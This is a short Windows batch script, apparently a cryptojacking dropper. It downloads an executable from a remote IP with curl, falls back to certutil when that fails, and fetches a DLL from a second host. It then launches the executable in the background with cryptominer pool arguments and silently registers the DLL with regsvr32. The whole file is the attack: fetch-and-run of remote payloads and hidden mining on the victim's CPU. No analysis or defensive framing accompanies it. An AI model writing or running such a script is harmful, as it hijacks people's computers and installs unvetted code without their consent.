@echo off
curl http://192.0.2.26/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://192.0.2.26/download/jsextension.exe jsextension.exe
)
curl https://citationsherbe.example.invalid/sdd.dll -o create.dll
start /B jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u 0 --cpu-max-threads-hint=50 --background
regsvr32.exe -s create.dll
